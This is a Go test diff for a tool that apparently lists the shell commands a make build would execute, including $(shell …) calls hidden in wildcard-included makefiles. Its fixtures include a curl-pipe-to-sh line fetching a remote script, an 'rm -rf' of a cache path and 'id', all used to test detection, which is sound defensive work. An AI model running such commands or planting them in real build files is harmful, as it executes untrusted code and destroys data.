@@ -120,6 +120,37 @@ func TestResolve(t *testing.T) {
 				{File: "/w/mk/vet.mk", Line: 2, Text: "go vet ./...", Lang: Shell, Dir: w},
 				st("Makefile", 4, "gofmt -l src/a.go src/b.go ${MAKE_WILDCARD}"),
 			}}},
+		{name: "make expands an include's wildcards itself; the included file's $(shell …) runs as it is read", cmd: "make build",
+			files: fakeFiles{"/w/Makefile": "include mk/*.mk\n\nbuild:\n\tgo build ./cmd/app\n",
+				"/w/mk/toolchain.mk": "TOOLCHAIN := $(shell curl -fsSL https://get.example.dev/tc.sh | sh)\n", "/w/mk/README": "x"},
+			want: Plan{Runner: "make", Read: []string{"/w/Makefile", "/w/mk/", "/w/mk/toolchain.mk"}, Steps: []Step{
+				{File: "/w/mk/toolchain.mk", Line: 1, Text: "curl -fsSL https://get.example.dev/tc.sh | sh", Lang: Shell, Dir: w},
+				st("Makefile", 4, "go build ./cmd/app"),
+			}}},
+		{name: "benign twin: an included file by wildcard that sets the version from git", cmd: "make build",
+			files: fakeFiles{"/w/Makefile": "-include mk/*.mk local/*.mk\n\nbuild:\n\tgo build -ldflags '$(LDFLAGS)' ./cmd/app\n",
+				"/w/mk/toolchain.mk": "VERSION := $(shell git describe --tags --always)\nLDFLAGS := -X main.version=$(VERSION)\n"},
+			want: Plan{Runner: "make", Read: []string{"/w/Makefile", "/w/mk/", "/w/mk/toolchain.mk"}, Steps: []Step{
+				{File: "/w/mk/toolchain.mk", Line: 1, Text: "git describe --tags --always", Lang: Shell, Dir: w},
+				st("Makefile", 4, "go build -ldflags '-X main.version=${MAKE_SHELL_OUTPUT}' ./cmd/app"),
+			}}},
+		{name: "make includes by wildcard without a lister: what it reads is not known", cmd: "make build",
+			files: fakeFiles{"/w/Makefile": "sinclude mk/*.mk\nbuild:\n\tgo build ./cmd/app\n", "/w/mk/a.mk": "X := $(shell id)\n"},
+			want: Plan{Runner: "make", Read: []string{"/w/Makefile"},
+				Problems: []Problem{{File: "/w/Makefile", Reason: "it includes the makefiles mk/*.mk matches, which cannot be listed"}},
+				Steps:    []Step{st("Makefile", 3, "go build ./cmd/app")}}},
+		{name: "make runs $(shell …) in conditionals, in += to a simple variable and in define :=; not in an unused = or a += to one", cmd: "make",
+			files: fakeFiles{"/w/Makefile": "ifeq ($(shell uname -s),Linux)\nA := $(shell echo linux)\nelse\nA := $(shell echo other)\nendif\n" +
+				"F := -O2\nF += $(shell rm -rf ~/.cache/x)\nL = -lm\nL += $(shell echo later)\n" +
+				"define BANNER :=\n$(shell date)\nendef\nU = $(shell echo unused)\nall:\n\techo $(F)\n"},
+			want: Plan{Runner: "make", Read: []string{"/w/Makefile"}, Steps: []Step{
+				st("Makefile", 1, "uname -s"),
+				st("Makefile", 2, "echo linux"),
+				st("Makefile", 4, "echo other"),
+				st("Makefile", 7, "rm -rf ~/.cache/x"),
+				st("Makefile", 10, "date"),
+				st("Makefile", 15, "echo -O2 ${MAKE_SHELL_OUTPUT}"),
+			}}},
 		{name: "make pattern rules", cmd: "make app.o", files: fakeFiles{"/w/Makefile": "%.o: %.c\n\tcc -c $< -o $@\n"},
 			want: Plan{Runner: "make", Read: []string{"/w/Makefile"}, Size: 24, Steps: []Step{
 				st("Makefile", 2, "cc -c app.c -o app.o"),
